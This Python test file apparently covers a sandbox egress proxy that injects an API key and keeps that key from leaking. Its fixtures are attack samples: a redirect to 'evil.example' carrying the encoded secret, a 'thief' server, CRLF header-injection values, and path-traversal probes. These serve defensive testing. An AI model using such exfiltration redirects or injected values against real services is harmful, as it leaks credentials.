"""Attacks on secrets: a host that echoes them in any shape, a tool that brings its own header, ways round the scan."""

from __future__ import annotations

import base64
import gzip
import html
import json
import os
from urllib.parse import quote, quote_plus

import pytest

from broker.domain.run import EgressKind, EgressRule, EgressVerdict, SecretUse
from broker.errors import InvalidArgumentError
from broker.sandbox.egress import exchange
from broker.sandbox.egress.limits import EgressLimits
from broker.sandbox.egress.scanner import SecretScanner
from tests.egress_support import (
    NAME,
    SECRET,
    USE,
    WITHIN_S,
    Certificates,
    Tool,
    World,
    chunked,
    http_rule,
    https_rule,
    make_certificates,
    ok,
    read_answer,
    saying,
    serving,
)

_RAW = SECRET.encode()
_FILLING = b"lorem ipsum dolor sit amet " * 200


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    return make_certificates(tmp_path_factory.mktemp("tls"))


def _base64(before: bytes, after: bytes) -> bytes:
    return base64.b64encode(before + _RAW + after)


_ECHOES: dict[str, bytes] = {
    "raw": _RAW,
    "base64": base64.b64encode(_RAW),
    "base64 without padding": base64.b64encode(_RAW).rstrip(b"="),
    "base64, second alignment": _base64(b"user:", b"\x01\x02"),
    "base64, third alignment": _base64(b"ab", b"xyz"),
    "base64 for URLs": base64.urlsafe_b64encode(b"user:" + _RAW + b"?"),
    "base64, percent-encoded": quote(base64.b64encode(_RAW), safe="").encode(),
    "base64 in JSON with escaped slashes": base64.b64encode(b"\xff\xff" + _RAW).replace(b"/", rb"\/"),
    "hex": _RAW.hex().encode(),
    "HEX": _RAW.hex().upper().encode(),
    "hex in both cases": "".join(c.upper() if i % 2 else c for i, c in enumerate(_RAW.hex())).encode(),
    "percent-encoded": quote(SECRET, safe="").encode(),
    "percent-encoded in lower case": "".join(c if c.isalnum() else f"%{ord(c):02x}" for c in SECRET).encode(),
    "percent-encoded but for slashes": quote(SECRET).encode(),
    "percent-encoded whole": "".join(f"%{byte:02X}" for byte in _RAW).encode(),
    "percent-encoded whole in lower case": "".join(f"%{byte:02x}" for byte in _RAW).encode(),
    "percent-encoded in part": b"%73" + _RAW[1:],
    "form-encoded": quote_plus(SECRET).encode(),
    "JSON": json.dumps(SECRET).encode(),
    "JSON with escaped slashes": json.dumps(SECRET).replace("/", "\\/").encode(),
    "JSON in numbers": "".join(f"\\u{byte:04x}" for byte in _RAW).encode(),
    "JSON in part": b"\\u0073" + _RAW[1:],
    "HTML": html.escape(SECRET).encode(),
    "HTML without quotes": html.escape(SECRET, quote=False).encode(),
    "UTF-16": SECRET.encode("utf-16"),
    "UTF-16, big end first": SECRET.encode("utf-16-be"),
}


@pytest.mark.parametrize("echo", _ECHOES.values(), ids=_ECHOES.keys())
@pytest.mark.parametrize("shape", ["whole", "chunked small", "chunked halves", "at the end", "close-delimited"])
async def test_an_echoed_secret_is_cut(certificates: Certificates, echo: bytes, shape: str) -> None:
    text = b'{"echo": "' + _FILLING + echo + _FILLING + b'"}'
    half = len(_FILLING) + 10 + len(echo) // 2
    said = {
        "whole": (ok(text),),
        "chunked small": (chunked(*(text[start : start + 5] for start in range(0, len(text), 5))),),
        "chunked halves": (chunked(text[:half], text[half:]),),
        "at the end": (ok(_FILLING + echo),),
        "close-delimited": (b"HTTP/1.1 200 OK\r\n\r\n" + text[:half], text[half:]),
    }[shape]
    async with serving(saying(*said), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        raw = await world.raw(f"GET http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode())
        assert b"x-api-key: " + _RAW in host.requests[0]
    assert echo not in raw
    assert _FILLING + echo[:1] not in raw
    assert not raw.endswith(b"0\r\n\r\n")
    assert world.record.verdict is EgressVerdict.SECRET_ECHOED
    assert any("secret" in warning for warning in world.session.warnings())
    assert SECRET not in f"{world.session.records()}{world.session.warnings()}"


async def test_a_tool_that_ends_before_it_is_answered_hides_no_echo(certificates: Certificates) -> None:
    """Its run is over once it has ended: verdict and warning are there while the gate still waits for it to close."""
    async with serving(saying(ok(_RAW)), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca, limits=EgressLimits(linger_s=WITHIN_S))
        tool = Tool(world.session)
        tool.send(f"GET http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode())
        await tool.until(b"\r\n\r\n")
        assert not tool.serving.done()
        assert [item.verdict for item in world.session.records()] == [EgressVerdict.SECRET_ECHOED]
        assert len(world.session.warnings()) == 1
        tool.close()
        await tool.all()
        assert len(world.session.warnings()) == 1


async def test_an_echo_in_a_small_answer_becomes_a_refusal(certificates: Certificates) -> None:
    async with serving(saying(ok(_RAW)), certificates.context()) as host:
        answer = await World(https_rule(host.port, secret=USE), ca=certificates.ca).ask(f"http://{NAME}/")
    assert (answer.status, answer.verdict) == (502, "SECRET_ECHOED")
    assert _RAW not in answer.body


@pytest.mark.parametrize(
    "said",
    [
        ok(b"fine", f"X-Echo: {SECRET}"),
        ok(b"fine", f"Set-Cookie: k={base64.b64encode(_RAW).decode()}"),
        b"HTTP/1.1 302 Found\r\nLocation: https://evil.example/?k=" + quote(SECRET, safe="").encode() + b"\r\n\r\n",
        b"HTTP/1.1 200 " + _RAW + b"\r\nContent-Length: 0\r\n\r\n",
        ok(b"fine", f"{_RAW.hex()}: x"),
        chunked(b"fine", trailer=b"X-Echo: " + _RAW + b"\r\n"),
    ],
    ids=["header", "cookie", "location", "reason", "name", "trailer"],
)
async def test_an_echo_outside_the_body_is_cut(certificates: Certificates, said: bytes) -> None:
    async with serving(saying(said), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        answer = await world.ask(f"http://{NAME}/")
    assert (answer.status, answer.verdict) == (502, "SECRET_ECHOED")
    assert b"fine" not in answer.body


async def test_a_host_that_cuts_its_answer_small_does_not_multiply_the_scan(
    certificates: Certificates, monkeypatch: pytest.MonkeyPatch
) -> None:
    looks: list[int] = []

    class Counting(SecretScanner):
        def check(self, text: bytes) -> None:
            looks.append(len(text))
            super().check(text)

    monkeypatch.setattr(exchange, "SecretScanner", Counting)
    pieces = [rb"%41%5c"] * 6_000
    async with serving(saying(chunked(*pieces)), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca, secrets={"key": "k3y" * 500})
        answer = await world.ask(f"http://{NAME}/")
    assert (answer.status, answer.body) == (200, b"".join(pieces))
    assert sum(looks) < 5 * len(answer.body)
    assert max(looks) < 45_000


@pytest.mark.parametrize("tail", [b"", b"not a chunk\r\n"], ids=["cut off", "no HTTP"])
async def test_an_echo_in_an_answer_that_breaks_off_is_still_found(certificates: Certificates, tail: bytes) -> None:
    said = chunked(b"x", _RAW).removesuffix(b"0\r\n\r\n") + tail
    async with serving(saying(said), certificates.context()) as host:
        answer = await World(https_rule(host.port, secret=USE), ca=certificates.ca).ask(f"http://{NAME}/")
    assert (answer.status, answer.verdict) == (502, "SECRET_ECHOED")


async def test_the_login_inside_basic_is_looked_for_decoded(certificates: Certificates) -> None:
    login = base64.b64encode(b"user:correct horse").decode()
    rule = {"secret": SecretUse("key", "authorization", "Basic ")}
    for echo in (b"user:correct horse", b"the password is correct horse.", login.encode(), f"Basic {login}".encode()):
        async with serving(saying(ok(echo)), certificates.context()) as host:
            world = World(https_rule(host.port, **rule), ca=certificates.ca, secrets={"key": login})
            assert (await world.ask(f"http://{NAME}/")).verdict == "SECRET_ECHOED"
            assert f"authorization: Basic {login}\r\n".encode() in host.requests[0]


async def test_a_clean_answer_passes_unchanged(certificates: Certificates) -> None:
    body = os.urandom(300_000) + _RAW[:-1] + b"%" + _RAW[1:]
    async with serving(saying(chunked(body[:1000], body[1000:])), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        answer = await world.ask(f"http://{NAME}/")
    assert (answer.status, answer.body == body) == (200, True)
    assert world.session.warnings() == ()


@pytest.mark.parametrize(
    "own", ["X-Api-Key: mine", "x-api-key: mine", "X_Api_Key: mine", "X-API_KEY: mine", "Connection: x-api-key"]
)
async def test_the_tools_own_header_is_dropped(certificates: Certificates, own: str) -> None:
    async with serving(saying(ok()), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        assert (await world.ask(f"http://{NAME}/", own)).status == 200
        head = host.requests[0].lower()
    assert b"mine" not in head
    assert head.count(b"x-api-key") + head.count(b"x_api_key") + head.count(b"x-api_key") == 1
    assert f"x-api-key: {SECRET}\r\n".encode().lower() in head


async def test_what_would_hide_an_echo_is_not_asked_for(certificates: Certificates) -> None:
    asked = ["Accept-Encoding: gzip, br", "Range: bytes=0-3", "If-Range: x", "A-IM: vcdiff", "Accept-Charset: utf-7",
             "Accept_Encoding: gzip", "TE: gzip"]  # fmt: skip
    async with serving(saying(ok()), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        await world.ask(f"http://{NAME}/", *asked)
        names = sorted(line.partition(b":")[0].decode() for line in host.requests[0].split(b"\r\n")[1:] if line)
        assert b"accept-encoding: identity\r\n" in host.requests[0]
    assert names == ["accept-encoding", "connection", "host", "x-api-key"]


@pytest.mark.parametrize(
    "said",
    [
        ok(gzip.compress(_RAW), "Content-Encoding: gzip"),
        ok(_RAW, "Content-Encoding: identity, br"),
        ok(b"x", "Content-Encoding: identity", "Content-Encoding: gzip"),
        b"HTTP/1.1 206 Partial\r\nContent-Range: bytes 0-3/40\r\nContent-Length: 4\r\n\r\n" + _RAW[:4],
        ok(_RAW[:4], "Content-Range: bytes 0-3/40"),
        b"HTTP/1.1 226 IM Used\r\nIM: vcdiff\r\nContent-Length: 4\r\n\r\n" + _RAW[:4],
    ],
    ids=["gzip", "a list", "two headers", "206", "a range", "226"],
)
async def test_an_answer_that_cannot_be_scanned_is_cut(certificates: Certificates, said: bytes) -> None:
    async with serving(saying(said), certificates.context()) as host:
        answer = await World(https_rule(host.port, secret=USE), ca=certificates.ca).ask(f"http://{NAME}/")
    assert (answer.status, answer.verdict) == (502, "MALFORMED")


async def test_without_a_secret_encodings_and_ranges_pass(certificates: Certificates) -> None:
    async with serving(saying(ok(gzip.compress(b"x"), "Content-Encoding: gzip")), certificates.context()) as host:
        answer = await World(https_rule(host.port), ca=certificates.ca).ask(f"http://{NAME}/", "Range: bytes=0-3")
        assert b"range: bytes=0-3" in host.requests[0]
    assert gzip.decompress(answer.body) == b"x"


async def test_a_redirect_does_not_carry_the_secret(certificates: Certificates) -> None:
    async with serving(saying(ok(b"stolen?"))) as thief:
        redirect = f"HTTP/1.1 307 Moved\r\nLocation: http://{NAME}:{thief.port}/\r\nContent-Length: 0\r\n\r\n".encode()
        async with serving(saying(redirect), certificates.context()) as host:
            world = World(https_rule(host.port, secret=USE), http_rule(thief.port), ca=certificates.ca)
            assert (await world.ask(f"http://{NAME}:{host.port}/")).status == 307
            assert thief.connections == 0
            assert (await world.ask(f"http://{NAME}:{thief.port}/")).status == 200
        assert _RAW not in b"".join(thief.requests)


@pytest.mark.parametrize(
    ("method", "path"), [("POST", "/v1/x"), ("GET", "/v2/x"), ("GET", "/v1evil"), ("GET", "/v1/../v2/x")]
)
async def test_the_secret_is_bound_to_method_and_path(certificates: Certificates, method: str, path: str) -> None:
    async with serving(saying(ok()), certificates.context()) as host:
        world = World(https_rule(host.port, paths=("/v1/",), secret=USE), ca=certificates.ca)
        assert (await world.ask(f"http://{NAME}{path}", method=method)).verdict in {"NOT_LISTED", "MALFORMED"}
        assert host.connections == 0


async def test_a_second_rule_without_the_secret_neither_sends_nor_shows_it(certificates: Certificates) -> None:
    def rules(port: int) -> tuple[EgressRule, ...]:
        return (https_rule(port, paths=("/v1/",), secret=USE), https_rule(port, paths=("/stored/",)))

    async with serving(saying(ok(b"kept: " + _RAW)), certificates.context()) as host:
        world = World(*rules(host.port), ca=certificates.ca)
        answer = await world.ask(f"http://{NAME}/stored/webhook", "X-Api-Key: mine")
        assert _RAW not in host.requests[0]
        assert b"mine" not in host.requests[0]
    assert answer.verdict == "SECRET_ECHOED"


@pytest.mark.parametrize("secrets", [{}, {"key": "short"}, {"key": "line\r\nX-Evil: 1"}, {"key": "ends with space "}])
async def test_without_a_usable_secret_nothing_is_sent(certificates: Certificates, secrets: dict[str, str]) -> None:
    async with serving(saying(ok()), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca, secrets=secrets)
        answer = await world.ask(f"http://{NAME}/")
        assert host.connections == 0
    assert (answer.status, answer.verdict) == (502, "SECRET_UNAVAILABLE")
    assert world.names.asked == []
    assert len(world.session.warnings()) == 1
    assert not any(value and value.encode() in answer.body for value in secrets.values())


async def test_a_host_with_a_wrong_certificate_never_gets_the_secret(certificates: Certificates) -> None:
    async with serving(saying(ok()), certificates.context()) as host:
        answer = await World(https_rule(host.port, secret=USE)).ask(f"http://{NAME}/")
        assert host.requests == []
    assert answer.verdict == "UNREACHABLE"


async def test_trace_never_shows_the_secret(certificates: Certificates) -> None:
    async with serving(saying(ok(_RAW)), certificates.context()) as host:
        world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
        assert (await world.ask(f"http://{NAME}/", method="TRACE")).verdict == "MALFORMED"
        assert host.connections == 0


async def test_how_much_is_held_back_says_nothing_about_a_guess(certificates: Certificates) -> None:
    seen = set()
    for guess in (_RAW[:-1] + b"!", _RAW[:4].ljust(len(_RAW), b"!"), b"!" * len(_RAW)):
        said = b"HTTP/1.1 200 OK\r\nContent-Length: 10000\r\n\r\n" + (b"." * 4000 + guess).ljust(5000, b".")
        async with serving(saying(said), certificates.context()) as host:
            world = World(https_rule(host.port, secret=USE), ca=certificates.ca)
            raw = await world.raw(f"GET http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode())
        seen.add(len(raw))
    assert len(seen) == 1
    assert seen.pop() < 5000


@pytest.mark.parametrize(
    "rule",
    [
        EgressRule(EgressKind.HTTP, NAME, 80, secret=USE),
        EgressRule(EgressKind.CONNECT, NAME, 443, secret=USE),
        EgressRule(EgressKind.TCP, NAME, 5432, listen=5432, secret=USE),
        https_rule(443, secret=SecretUse("key", "host")),
        https_rule(443, secret=SecretUse("key", "content-length")),
        https_rule(443, secret=SecretUse("key", "transfer-encoding")),
        https_rule(443, secret=SecretUse("key", "x-forwarded-host")),
        https_rule(443, secret=SecretUse("key", "X-Api-Key")),
        https_rule(443, secret=SecretUse("key", "x-api-key", "two\r\nlines")),
    ],
)
def test_a_rule_that_would_expose_a_secret_is_refused_whole(rule: EgressRule) -> None:
    with pytest.raises(InvalidArgumentError) as refused:
        World(rule)
    assert refused.value.reason == "EGRESS_RULE_INVALID"


async def test_a_post_streams_its_body_behind_the_secret(certificates: Certificates) -> None:
    async with serving(saying(ok()), certificates.context()) as host:
        world = World(https_rule(host.port, methods=("POST",), secret=USE), ca=certificates.ca)
        tool = Tool(world.session)
        head = f"POST http://{NAME}/ HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 5\r\n\r\nhello"
        tool.send(head.encode(), 3)
        await tool.until(b"fine")
        tool.close()
        assert read_answer(await tool.all()).status == 200
